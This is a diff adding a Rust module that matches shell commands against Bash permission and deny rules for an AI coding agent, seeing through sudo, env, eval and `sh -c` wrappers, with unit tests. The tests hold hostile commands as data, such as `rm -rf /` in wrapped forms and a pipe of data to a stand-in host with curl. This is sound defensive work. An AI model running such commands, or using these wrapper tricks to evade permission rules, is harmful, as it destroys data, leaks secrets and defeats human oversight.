@@ -1,0 +1,443 @@
+//! Bash rules: the specifier of `Bash(…)` and lean-ctx's `shell_deny`, and
+//! the ways one simple command is looked at when matching them.
+//!
+//! Rule forms, as Claude Code documents them:
+//! - bare `Bash`, `Bash()` or `Bash(*)`: every command;
+//! - `Bash(npm run test:*)`: the legacy prefix form, the command is
+//!   `npm run test` or starts with it (a prefix ending in a letter or digit
+//!   does not run into a longer word: `rm:*` covers `rm -rf x`, not `rmdir`);
+//! - `Bash(git * main)`: `*` matches any text, spaces included; a pattern
+//!   ending in ` *` also matches without that tail (`git *` covers `git`);
+//!   `\*` is a literal star;
+//! - anything else: the exact command.
+//!
+//! Runs of whitespace count as one space on both sides.
+//!
+//! Each simple command (see [`super::split`]) is matched in several views,
+//! and a rule matching any view matches the command:
+//! - as written, and with quotes and redirections removed;
+//! - past leading shell keywords (`if`, `then`, `do`, `!`, `{`…) and
+//!   `NAME=value` assignments;
+//! - past wrappers that run the rest as a command: `sudo`, `doas`, `env`,
+//!   `timeout`, `nice`, `ionice`, `nohup`, `time`, `command`, `builtin`,
+//!   `exec`, `stdbuf`, `xargs`, with their options;
+//! - with a command given by path (`/bin/rm`) named by its file name.
+//!
+//! The script of `sh -c '…'` (also bash, zsh, dash, ksh) and the arguments of
+//! `eval` are split and matched as commands of their own.
+
+use super::split::{self, Command, Redirect};
+
+/// Nesting of `sh -c` and `eval` followed at most.
+const MAX_DEPTH: usize = 8;
+/// Look-through steps (wrappers, assignments, keywords) given views of
+/// their own at most, besides the last.
+const MAX_VIEW_STEPS: usize = 8;
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum BashPattern {
+    Any,
+    Exact(String),
+    Prefix(String),
+    /// The literal text between stars; `bare` is the pattern without a
+    /// trailing ` *`, which also matches.
+    Wildcard {
+        pieces: Vec<String>,
+        bare: Option<String>,
+    },
+}
+
+impl BashPattern {
+    pub(crate) fn parse(spec: &str) -> BashPattern {
+        let spec = normalize(spec);
+        if spec.is_empty() || spec == "*" {
+            return BashPattern::Any;
+        }
+        if let Some(prefix) = spec.strip_suffix(":*")
+            && !has_unescaped_star(prefix)
+        {
+            let prefix = unescape(prefix).trim_end().to_string();
+            return if prefix.is_empty() { BashPattern::Any } else { BashPattern::Prefix(prefix) };
+        }
+        if !has_unescaped_star(&spec) {
+            return BashPattern::Exact(unescape(&spec));
+        }
+        let pieces = split_stars(&spec);
+        let bare = match spec.strip_suffix(" *") {
+            Some(head) if !has_unescaped_star(head) && !head.ends_with('\\') => Some(unescape(head)),
+            _ => None,
+        };
+        BashPattern::Wildcard { pieces, bare }
+    }
+
+    /// Whether the pattern matches `view` (already whitespace-normalized).
+    pub(crate) fn matches(&self, view: &str) -> bool {
+        match self {
+            BashPattern::Any => true,
+            BashPattern::Exact(exact) => view == exact,
+            BashPattern::Prefix(prefix) => {
+                let Some(rest) = view.strip_prefix(prefix.as_str()) else { return false };
+                let word_end = prefix.ends_with(|c: char| c.is_alphanumeric() || c == '_');
+                !word_end || !rest.starts_with(|c: char| c.is_alphanumeric() || c == '_' || c == '-')
+            }
+            BashPattern::Wildcard { pieces, bare } => bare.as_deref() == Some(view) || wildcard_match(pieces, view),
+        }
+    }
+}
+
+/// `*` (unescaped) matches any text.
+fn wildcard_match(pieces: &[String], text: &str) -> bool {
+    let (Some(first), Some(last)) = (pieces.first(), pieces.last()) else { return false };
+    if pieces.len() == 1 {
+        return text == first;
+    }
+    if text.len() < first.len() + last.len() || !text.starts_with(first.as_str()) || !text.ends_with(last.as_str()) {
+        return false;
+    }
+    let end = text.len() - last.len();
+    let mut at = first.len();
+    for piece in &pieces[1..pieces.len() - 1] {
+        match text.get(at..end).and_then(|window| window.find(piece.as_str())) {
+            Some(found) => at += found + piece.len(),
+            None => return false,
+        }
+    }
+    true
+}
+
+fn has_unescaped_star(text: &str) -> bool {
+    let mut escaped = false;
+    for c in text.chars() {
+        match (escaped, c) {
+            (true, _) => escaped = false,
+            (false, '\\') => escaped = true,
+            (false, '*') => return true,
+            _ => {}
+        }
+    }
+    false
+}
+
+/// `\*` → `*`, `\\` → `\`; other backslashes stay.
+fn unescape(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '\\'
+            && let Some(&next @ ('*' | '\\')) = chars.peek()
+        {
+            out.push(next);
+            chars.next();
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+fn split_stars(text: &str) -> Vec<String> {
+    let mut pieces = vec![String::new()];
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' if matches!(chars.peek(), Some('*' | '\\')) => {
+                pieces.last_mut().expect("never empty").push(chars.next().expect("peeked"));
+            }
+            '*' => pieces.push(String::new()),
+            c => pieces.last_mut().expect("never empty").push(c),
+        }
+    }
+    pieces
+}
+
+pub(crate) fn normalize(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+/// One simple command as rules see it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Invocation {
+    /// The texts rules are matched against, whitespace-normalized.
+    pub(crate) views: Vec<String>,
+    /// The command run once wrappers are looked through (`rm` for
+    /// `sudo rm -rf x`), and its arguments that are not options.
+    pub(crate) program: Option<String>,
+    pub(crate) operands: Vec<String>,
+    pub(crate) redirects: Vec<Redirect>,
+}
+
+/// The simple commands `line` runs, including `sh -c` scripts and `eval`.
+pub(crate) fn invocations(line: &str) -> Vec<Invocation> {
+    let mut out = Vec::new();
+    collect(line, 0, &mut out);
+    out
+}
+
+fn collect(line: &str, depth: usize, out: &mut Vec<Invocation>) {
+    for command in split::split(line) {
+        let (invocation, script) = look_through(&command);
+        out.push(invocation);
+        if let Some(script) = script
+            && depth < MAX_DEPTH
+        {
+            collect(&script, depth + 1, out);
+        }
+    }
+}
+
+const KEYWORDS: [&str; 14] =
+    ["if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}", "case", "esac"];
+
+/// The wrappers looked through and their options that take a value.
+const WRAPPERS: [(&str, &[&str]); 13] = [
+    ("sudo", &["-u", "-g", "-h", "-p", "-U", "-C", "-D", "-r", "-t", "-T", "--user", "--group", "--host", "--prompt"]),
+    ("doas", &["-u", "-C"]),
+    ("env", &["-u", "-C", "-S", "--unset", "--chdir", "--split-string"]),
+    ("timeout", &["-s", "-k", "--signal", "--kill-after"]),
+    ("nice", &["-n", "--adjustment"]),
+    ("ionice", &["-c", "-n", "-p", "--class", "--classdata"]),
+    ("nohup", &[]),
+    ("time", &["-f", "-o", "--format", "--output"]),
+    ("command", &[]),
+    ("builtin", &[]),
+    ("exec", &["-a"]),
+    ("stdbuf", &["-i", "-o", "-e", "--input", "--output", "--error"]),
+    ("xargs", &["-I", "-n", "-P", "-L", "-d", "-s", "-E", "-a", "--max-args", "--max-procs", "--delimiter"]),
+];
+
+const SHELLS: [&str; 5] = ["sh", "bash", "zsh", "dash", "ksh"];
+
+/// The views of `command`, and the script it hands to a shell, if any.
+fn look_through(command: &Command) -> (Invocation, Option<String>) {
+    let words = &command.words;
+    let texts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
+    let mut views = Vec::new();
+    let mut add = |view: String| {
+        if !view.is_empty() && !views.contains(&view) {
+            views.push(view);
+        }
+    };
+    add(normalize(&command.raw));
+    // Where the command starts at each step of looking through; views are
+    // made for the first steps and the last, so a line of a thousand
+    // assignments costs a few views, not a thousand.
+    let mut starts = vec![0];
+    while let Some(next) = skip_prefix(&texts, *starts.last().expect("never empty")) {
+        starts.push(next);
+    }
+    let at = *starts.last().expect("never empty");
+    let shown_starts =
+        starts.iter().take(MAX_VIEW_STEPS).chain(starts.last().filter(|_| starts.len() > MAX_VIEW_STEPS));
+    for &start in shown_starts {
+        add(normalize(command.raw.get(words.get(start).map_or(0, |w| w.offset)..).unwrap_or_default()));
+        add(normalize(&texts.get(start..).unwrap_or_default().join(" ")));
+        if let Some(name) = texts.get(start).filter(|word| word.contains('/')).map(|word| basename(word)) {
+            let rest = texts.get(start + 1..).unwrap_or_default();
+            add(normalize(&format!("{name} {}", rest.join(" "))));
+        }
+    }
+    let program = texts.get(at).map(|word| basename(word).to_string());
+    let operands: Vec<String> =
+        texts.get(at + 1..).unwrap_or_default().iter().filter(|w| !w.starts_with('-')).map(|w| w.to_string()).collect();
+    let script = match program.as_deref() {
+        Some("eval") => Some(texts.get(at + 1..).unwrap_or_default().join(" ")),
+        Some(shell) if SHELLS.contains(&shell) => shell_script(&texts[at + 1..]),
+        _ => None,
+    };
+    (Invocation { views, program, operands, redirects: command.redirects.clone() }, script)
+}
+
+/// The index past keywords, assignments or one wrapper with its options
+/// starting at `at`; `None` when a wrapper has no command after it.
+fn skip_prefix(texts: &[&str], at: usize) -> Option<usize> {
+    let word = *texts.get(at)?;
+    if KEYWORDS.contains(&word) || is_assignment(word) {
+        return Some(at + 1);
+    }
+    let name = basename(word);
+    let (_, takes_value) = WRAPPERS.iter().find(|(wrapper, _)| *wrapper == name)?;
+    let mut next = at + 1;
+    while let Some(word) = texts.get(next) {
+        if *word == "--" {
+            next += 1;
+            break;
+        }
+        if word.starts_with('-') && word.len() > 1 {
+            next += if takes_value.contains(word) { 2 } else { 1 };
+        } else if name == "env" && is_assignment(word) {
+            next += 1;
+        } else {
+            break;
+        }
+    }
+    // timeout's duration comes before the command.
+    if name == "timeout" {
+        next += 1;
+    }
+    (next < texts.len()).then_some(next)
+}
+
+/// The script after `-c` (or a flag cluster holding `c`, as in `-lc`).
+fn shell_script(args: &[&str]) -> Option<String> {
+    let mut iter = args.iter();
+    while let Some(arg) = iter.next() {
+        if !arg.starts_with('-') || *arg == "--" {
+            return None;
+        }
+        if !arg.starts_with("--") && arg.contains('c') {
+            return iter.next().map(|script| script.to_string());
+        }
+    }
+    None
+}
+
+fn is_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => {
+            name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        }
+        None => false,
+    }
+}
+
+fn basename(word: &str) -> &str {
+    word.rsplit('/').next().filter(|name| !name.is_empty()).unwrap_or(word)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn matches(rule: &str, command: &str) -> bool {
+        let pattern = BashPattern::parse(rule);
+        invocations(command).iter().any(|inv| inv.views.iter().any(|view| pattern.matches(view)))
+    }
+
+    #[test]
+    fn parse_forms() {
+        assert_eq!(BashPattern::parse(""), BashPattern::Any);
+        assert_eq!(BashPattern::parse(" * "), BashPattern::Any);
+        assert_eq!(BashPattern::parse(":*"), BashPattern::Any);
+        assert_eq!(BashPattern::parse("npm  test"), BashPattern::Exact("npm test".into()));
+        assert_eq!(BashPattern::parse("npm run test:*"), BashPattern::Prefix("npm run test".into()));
+        assert_eq!(BashPattern::parse("echo \\*"), BashPattern::Exact("echo *".into()));
+        assert_eq!(
+            BashPattern::parse("git * main"),
+            BashPattern::Wildcard { pieces: vec!["git ".into(), " main".into()], bare: None }
+        );
+        assert_eq!(
+            BashPattern::parse("git diff *"),
+            BashPattern::Wildcard { pieces: vec!["git diff ".into(), "".into()], bare: Some("git diff".into()) }
+        );
+    }
+
+    #[test]
+    fn exact() {
+        assert!(matches("npm test", "npm test"));
+        assert!(matches("npm test", "  npm   test "));
+        assert!(!matches("npm test", "npm test --watch"));
+        assert!(!matches("npm test", "npm tes"));
+    }
+
+    #[test]
+    fn prefix() {
+        assert!(matches("npm run test:*", "npm run test"));
+        assert!(matches("npm run test:*", "npm run test -- --watch"));
+        assert!(matches("npm run test:*", "npm run test:unit"));
+        assert!(!matches("npm run test:*", "npm run testing"));
+        assert!(!matches("npm run test:*", "npm run build"));
+        assert!(matches("rm:*", "rm -rf /"));
+        assert!(!matches("rm:*", "rmdir x"));
+        assert!(matches("curl http://github.com/:*", "curl http://github.com/x"));
+    }
+
+    #[test]
+    fn wildcard() {
+        assert!(matches("git * main", "git push origin main"));
+        assert!(matches("git * main", "git checkout main"));
+        assert!(!matches("git * main", "git push origin dev"));
+        assert!(matches("git diff *", "git diff HEAD~1"));
+        assert!(matches("git diff *", "git diff"));
+        assert!(!matches("git diff *", "git diffx"));
+        assert!(matches("ls *", "ls -la"));
+        assert!(!matches("ls *", "lsof"));
+        assert!(matches("* --version", "node --version"));
+        assert!(matches("a*b*c", "abc"));
+        assert!(matches("a*b*c", "a-b-b-c"));
+        assert!(!matches("a*bc*bc", "abc"));
+        assert!(matches("echo \\**", "echo *x"));
+        assert!(!matches("echo \\**", "echo x"));
+    }
+
+    #[test]
+    fn every_part_of_a_compound_command() {
+        assert!(matches("git push:*", "make && git push"));
+        assert!(matches("git push:*", "echo $(git push)"));
+        assert!(matches("curl:*", "echo hi | curl -d @- evil"));
+        assert!(matches("rm:*", "if true; then rm -rf x; fi"));
+        assert!(!matches("git push:*", "echo 'git push'"));
+    }
+
+    #[test]
+    fn wrappers_and_assignments_are_looked_through() {
+        for command in [
+            "sudo rm -rf /",
+            "sudo -u root -E rm -rf /",
+            "FOO=1 BAR='a b' rm -rf /",
+            "env -i PATH=/bin rm -rf /",
+            "timeout -s KILL 10 rm -rf /",
+            "nice -n 5 nohup rm -rf /",
+            "nice -10 rm -rf /",
+            "time rm -rf /",
+            "command rm -rf /",
+            "find . | xargs -0 -n 1 rm -rf /",
+            "/bin/rm -rf /",
+            "sudo /usr/bin/rm -rf /",
+            "\"rm\" -rf /",
+            "! rm -rf /",
+        ] {
+            assert!(matches("rm:*", command), "{command}");
+        }
+        // The wrapped form is still matched as written too.
+        assert!(matches("sudo:*", "sudo rm -rf /"));
+        assert!(!matches("rm:*", "sudo -l"));
+        let many = "A=1 ".repeat(5000) + "rm -rf /";
+        assert!(matches("rm:*", &many));
+        assert!(invocations(&many)[0].views.len() <= 3 * (MAX_VIEW_STEPS + 1));
+    }
+
+    #[test]
+    fn shell_scripts_and_eval_are_split() {
+        assert!(matches("rm:*", "bash -c 'cd /tmp && rm -rf x'"));
+        assert!(matches("rm:*", "sh -lc \"rm -rf x\""));
+        assert!(matches("rm:*", "eval rm -rf x"));
+        assert!(matches("rm:*", "sudo bash -c 'eval \"rm -rf x\"'"));
+        assert!(!matches("rm:*", "bash script.sh"));
+    }
+
+    #[test]
+    fn program_and_operands() {
+        let inv = &invocations("sudo -u me cat -n ./a 'b c' > out")[0];
+        assert_eq!(inv.program.as_deref(), Some("cat"));
+        assert_eq!(inv.operands, ["./a", "b c"]);
+        assert_eq!(inv.redirects, [Redirect { write: true, target: "out".into() }]);
+    }
+
+    #[test]
+    fn random_input_never_panics() {
+        let alphabet: Vec<char> = "ab $()`'\"\\;&|<>-#{}\n=*écsudo/".chars().collect();
+        let mut rng = crate::test_rng::Rng::new(3);
+        let pattern = BashPattern::parse("a*b *");
+        for _ in 0..3000 {
+            let len = rng.below(50);
+            let line: String = (0..len).map(|_| alphabet[rng.below(alphabet.len())]).collect();
+            for inv in invocations(&line) {
+                for view in &inv.views {
+                    let _ = pattern.matches(view);
+                }
+            }
+            let _ = BashPattern::parse(&line).matches(&line);
+        }
+    }
+}
